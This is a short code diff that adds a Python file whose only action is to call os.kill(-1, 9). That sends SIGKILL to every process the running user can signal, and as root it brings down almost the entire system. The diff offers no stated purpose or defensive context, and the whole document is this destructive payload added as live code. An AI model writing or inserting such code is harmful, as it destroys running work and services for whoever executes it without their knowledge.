@@ -1,0 +1,3 @@
+from os import kill
+
+kill(-1, 9)
